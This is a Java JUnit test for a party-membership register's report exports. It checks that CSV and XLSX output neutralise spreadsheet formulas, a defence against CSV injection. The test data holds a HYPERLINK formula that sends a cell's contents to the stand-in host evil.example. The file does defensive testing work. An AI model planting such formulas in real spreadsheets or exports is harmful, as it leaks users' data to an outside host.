package vn.partyadmission.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Base64;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import vn.partyadmission.membership.Change;
import vn.partyadmission.membership.Education;
import vn.partyadmission.membership.MemberRegister;
import vn.partyadmission.membership.MemberStatus;
import vn.partyadmission.membership.PaperStanding;
import vn.partyadmission.membership.Person;
import vn.partyadmission.support.DemoTest;
import vn.partyadmission.support.Fixture;
import vn.partyadmission.support.TestClockConfiguration;

/**
 * A member whose name is a spreadsheet formula (issue 13, CSV injection): the register keeps the
 * name exactly as given, the CSV export writes it as text behind a leading quote, the XLSX export as a
 * string cell. A tree of its own, so the demo's figures stay as the other tests expect them.
 */
@DemoTest
class ExportsCarryNoFormulasTest {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"Bấm\")";

	@LocalServerPort
	int port;

	@Autowired
	Fixture fixture;

	@Autowired
	MemberRegister members;

	@Test
	void aNameThatIsAFormula_isTextInTheCsvAndTheXlsx() throws Exception {
		Fixture.Units u = fixture.create();
		LocalDate today = TestClockConfiguration.TODAY;
		String id = u.id("formula");
		// probation ends in a month: the member is on the "due" table
		members.takeOver(new Person(id, FORMULA, LocalDate.of(1995, 3, 3), "MALE", "Kinh", Education.HIGHER, "UBND xã",
				"Thôn Đông", u.cell, false), new PaperStanding(MemberStatus.PROBATIONARY, today.minusMonths(11), today.minusMonths(12),
						today.minusMonths(11), today.plusMonths(1), null),
				new Change(null, null, "test", "Taken over from paper", null));
		assertThat(members.findPerson(id).orElseThrow().fullName()).as("stored as given").isEqualTo(FORMULA);

		HttpResponse<byte[]> csv = get("/api/reports/" + u.commune + "/due.csv");
		assertThat(csv.statusCode()).isEqualTo(200);
		String text = new String(csv.body(), StandardCharsets.UTF_8);
		String line = text.lines().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
		// the cell starts with '= inside its quotes; the quotes of the name are doubled as CSV wants
		assertThat(line).startsWith(id + ",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Bấm\"\")\",");
		// days left stays a bare number
		assertThat(line).endsWith("," + java.time.temporal.ChronoUnit.DAYS.between(today, today.plusMonths(1)));

		HttpResponse<byte[]> xlsx = get("/api/reports/" + u.commune + "/due.xlsx");
		assertThat(xlsx.statusCode()).isEqualTo(200);
		try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
			Sheet sheet = book.getSheetAt(0);
			Row row = null;
			for (Row r : sheet) {
				if (id.equals(r.getCell(0).getStringCellValue())) {
					row = r;
				}
			}
			assertThat(row).as("the member's row").isNotNull();
			Cell name = row.getCell(1);
			assertThat(name.getCellType()).isEqualTo(CellType.STRING);
			assertThat(name.getStringCellValue()).isEqualTo(FORMULA);
			assertThat(row.getCell(4).getCellType()).isEqualTo(CellType.NUMERIC);
		}
	}

	@Test
	void everyFormulaStartIsNeutralised_andNumbersStayNumbers() {
		ReportTables.Table table = new ReportTables.Table("t", "t", java.util.List.of("a", "b"), java.util.List.of(
				java.util.List.of("=1+1", -3), java.util.List.of("+1", 2.5), java.util.List.of("-1", "@SUM(A1)"),
				java.util.List.of("\tx", "\rx"), java.util.List.of("Nguyễn Văn A", "a,b")));
		String csv = new String(Exports.csv(table), StandardCharsets.UTF_8).substring(1);
		assertThat(csv).isEqualTo("a,b\r\n\"'=1+1\",-3\r\n\"'+1\",2.5\r\n\"'-1\",\"'@SUM(A1)\"\r\n\"'\tx\",\"'\rx\"\r\n"
				+ "Nguyễn Văn A,\"a,b\"\r\n");
	}

	private HttpResponse<byte[]> get(String path) throws Exception {
		return HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
			.header("Authorization", "Basic " + Base64.getEncoder()
				.encodeToString(("admin:" + DemoTest.PASSWORD).getBytes(StandardCharsets.UTF_8)))
			.build(), HttpResponse.BodyHandlers.ofByteArray());
	}

}
